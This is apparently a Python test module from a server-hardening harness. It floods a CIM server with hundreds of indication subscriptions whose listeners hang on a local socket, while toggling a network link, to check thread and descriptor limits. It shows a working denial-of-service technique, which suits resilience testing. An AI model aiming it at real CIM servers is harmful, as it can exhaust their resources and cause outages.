import itertools
import socket
import subprocess

import support
from attack import Attack, Limits

LISTENERS = 290
INTEROP = '<LOCALNAMESPACEPATH><NAMESPACE NAME="root"/><NAMESPACE NAME="PG_InterOp"/></LOCALNAMESPACEPATH>'


def instance(class_name, properties):
    return f'<INSTANCE CLASSNAME="{class_name}">{properties}</INSTANCE>'


def text(name, value):
    return f'<PROPERTY NAME="{name}" TYPE="string"><VALUE>{value}</VALUE></PROPERTY>'


def create(content):
    """CreateInstance in the interop namespace."""
    return support.message(
        f'<IMETHODCALL NAME="CreateInstance">{INTEROP}<IPARAMVALUE NAME="NewInstance">{content}</IPARAMVALUE></IMETHODCALL>'
    )


class HangingListeners(Attack):
    """A user subscribes listeners that take connections and never answer, hundreds of them, and a link goes up and
    down."""

    users = True
    seconds = 8.0
    limits = Limits(threads=48, descriptors=400)

    def prepare(self, server):
        settings = server.folder / "meroltcna.properties"
        settings.write_text(settings.read_text().replace("PollIntervalSeconds=0", "PollIntervalSeconds=1"))
        self.deaf = socket.create_server(("127.0.0.1", 0), backlog=1024)

    def attack(self, server, stopping):
        port = self.deaf.getsockname()[1]
        query = text("Name", "all") + text("Query", "SELECT * FROM CIM_AlertIndication")
        query += text("SourceNamespace", "root/merolt_cmpi")
        _, body = support.ask(server, create(instance("CIM_IndicationFilter", query)))
        wanted = body.decode().split("<IRETURNVALUE>")[1].split("</IRETURNVALUE>")[0]
        for number in range(LISTENERS):
            if stopping.is_set():
                return
            place = text("Name", str(number)) + text("Destination", f"http://127.0.0.1:{port}/{number}")
            status, body = support.ask(server, create(instance("CIM_ListenerDestinationCIMXML", place)))
            if status != 200 or b"<ERROR" in body:
                break  # there is a limit for each user
            listener = body.decode().split("<IRETURNVALUE>")[1].split("</IRETURNVALUE>")[0]
            ends = "".join(
                f'<PROPERTY.REFERENCE NAME="{name}"><VALUE.REFERENCE>{end}</VALUE.REFERENCE></PROPERTY.REFERENCE>'
                for name, end in (("Filter", wanted), ("Handler", listener))
            )
            support.ask(server, create(instance("CIM_IndicationSubscription", ends)))
        for state in itertools.cycle(("down", "up")):
            if stopping.is_set():
                return
            set_link = [server.cimhost, "fleet", "set-link", "MC1020R4K00317", "1", state, server.fleet]
            subprocess.run(set_link, check=True, capture_output=True)
            stopping.wait(1.0)
